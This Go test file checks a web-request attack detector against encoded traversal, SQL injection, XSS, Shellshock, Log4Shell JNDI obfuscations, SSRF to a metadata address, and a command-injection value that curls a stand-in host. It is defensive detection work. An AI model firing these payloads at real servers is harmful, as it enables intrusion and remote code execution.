package request

import (
	"bytes"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"case53/loader/logs/logstest"
)

// find searches a text as a header and as a query.
func find(text string) string {
	var s Search
	s.Begin()
	s.Header([]byte(text))
	s.URL([]byte("/x?q=" + text))
	return string(s.Names(nil))
}

// TestPublishedObfuscations: of the published ways to write ${jndi: every one that has it is found, also encoded twice, and once
// more in the letters of a log.
func TestPublishedObfuscations(t *testing.T) {
	b := logstest.Fixture(t, "access/Puliczek+CVE-2021-44228-PoC-log4j-bypass-words/README.payload-lines.extracted.txt")
	found, all := 0, 0
	for line := range bytes.SplitSeq(bytes.TrimSpace(b), []byte("\n")) {
		text := strings.Trim(string(line), "`\",")
		if !strings.Contains(text, "somesitehackerofhell") {
			continue
		}
		all++
		twice := url.QueryEscape(url.QueryEscape(text))
		plain, encoded := find(text), find(twice)
		if strings.Contains(plain, "log4shell") != strings.Contains(encoded, "log4shell") {
			t.Errorf("%s: %q, encoded twice %q", text, plain, encoded)
		}
		if strings.Contains(plain, "log4shell") {
			found++
		} else {
			t.Errorf("not found: %s", text)
		}
	}
	if all < 10 || found < 10 {
		t.Errorf("%d of %d found", found, all)
	}
}

// TestSignatures: what each finds, and what looks like it and is not.
func TestSignatures(t *testing.T) {
	for text, want := range map[string]string{
		"/cgi-bin/.%%32%65/.%%32%65/etc/passwd":               "traversal,passwd_file",
		"/a?file=..%252f..%252fboot.ini":                      "traversal,passwd_file",
		"/p?id=1+UNION+ALL+SELECT+1,2":                        "sql_injection",
		"/p?id=1%27%20or%20%271%27=%271":                      "sql_injection",
		"/s?q=%3Cscript%3Ealert(1)%3C/script%3E":              "xss",
		"/s?q=<img src=x onerror=alert(1)>":                   "xss",
		"/ping?h=1.1.1.1;cat /etc/hosts":                      "command",
		"/x?c=$(curl http://a.example/x)":                     "command",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php": "php_code",
		"/?-d+allow_url_include%3d1":                          "php_code",
		"/uploads/c99.php":                                    "web_shell",
		"/x?name={{7*7}}":                                     "template_injection",
		"/x?class.module.classLoader.resources=1":             "template_injection",
		"/proxy?url=http://169.254.169.254/latest/meta-data/": "metadata_service",
		"/index.php?a=1&cat=2;id=3":                           "",
		"/shop/union-square/select":                           "",
		"/it's or not":                                        "",
		"/a..b/c":                                             "",
		"/q?x=a|b&sh=1":                                       "",
	} {
		var s Search
		s.URL([]byte(text))
		if got := string(s.Names(nil)); got != want {
			t.Errorf("%s: %q, want %q", text, got, want)
		}
	}
	var s Search
	s.Header([]byte("() { :;}; /bin/bash -c id"))
	if got := string(s.Names(nil)); got != "shellshock" {
		t.Errorf("shellshock: %q", got)
	}
	s.Begin()
	s.Header([]byte("https://www.example.com/?a=1&&cat foo"))
	if got := string(s.Names(nil)); got != "" {
		t.Errorf("a referer: %q", got)
	}
}

// TestCut: request lines and URLs.
func TestCut(t *testing.T) {
	for line, want := range map[string]Line{
		"GET /a b HTTP/1.1": {[]byte("GET"), []byte("/a b"), []byte("HTTP/1.1")}, "GET /": {[]byte("GET"), []byte("/"), nil},
		"\x16\x03 x": {nil, []byte("\x16\x03 x"), nil}, "- http://x- -": {[]byte("-"), []byte("http://x-"), []byte("-")}, "": {nil, []byte{}, nil},
	} {
		got := CutLine([]byte(line))
		if string(got.Method) != string(want.Method) || string(got.URL) != string(want.URL) || string(got.Protocol) != string(want.Protocol) {
			t.Errorf("%q: %q", line, got)
		}
	}
	for text, want := range map[string][5]string{
		"http://[2001:db8::1]:80/a?b?c": {"http", "2001:db8::1", "80", "/a", "b?c"}, "https://u:p@h.example": {"https", "h.example"},
		"/a?": {"", "", "", "/a"}, "*": {"", "", "", "*"}, "a b": {}, "http://h?x": {"http", "h", "", "", "x"},
	} {
		u := CutURL([]byte(text))
		if got := [5]string{string(u.Scheme), string(u.Host), string(u.Port), string(u.Path), string(u.Query)}; got != want {
			t.Errorf("%q: %q", text, got)
		}
	}
}

// FuzzSearch: whatever is searched, nothing breaks, and a text is found the same the second time.
func FuzzSearch(f *testing.F) {
	for _, text := range []string{"${${::-j}ndi:x}", "%25%32%35..%2f", `\x24\u007bjndi:`, "&#x24;&#123;", "${${${${", "%%%", "+?+"} {
		f.Add([]byte(text))
	}
	var remembering Search
	f.Fuzz(func(t *testing.T, text []byte) {
		var s Search
		s.URL(text)
		first := string(s.Names(nil))
		remembering.Begin()
		remembering.URL(text)
		remembering.URL(text)
		if got := string(remembering.Names(nil)); got != first {
			t.Fatalf("%q: %q, then %q", text, first, got)
		}
	})
}

// plain are the words of which an attack may be that has no suspect character.
var plain = regexp.MustCompile(`(?i)\.\.|/etc/|/bin/|/proc/|` +
	`\.ini\b|meta-?data|169\.254|php|class\.module|\.(jspx?|aspx?|ashx)\b|javascript:|information_schema`)

// FuzzWorthDecoding: what is not decoded has neither a suspect character nor such a word.
func FuzzWorthDecoding(f *testing.F) {
	for _, text := range []string{"", "..", "a.b", "x.INI", "x.ini_", "a.jspx", "a.jspxy", "a.aspx?b", "Meta-Data", "metadatum", "1169.254", "PhP", "ph",
		"class.Module", "JavaScript:", "Information_schema", "/ETC/", "/etcetera/", "/proc/", "${", "a+b", "hph", "h", "m", "."} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if strings.ContainsAny(text, "\u017f\u212a") { // letters that the expression takes for s and k, and no signature does
			return
		}
		want := strings.ContainsAny(text, "${}<>'\"`();|\\%*&+") || plain.MatchString(text)
		if got := worthDecoding([]byte(text)); got != want {
			t.Errorf("%q: %t, want %t", text, got, want)
		}
	})
}
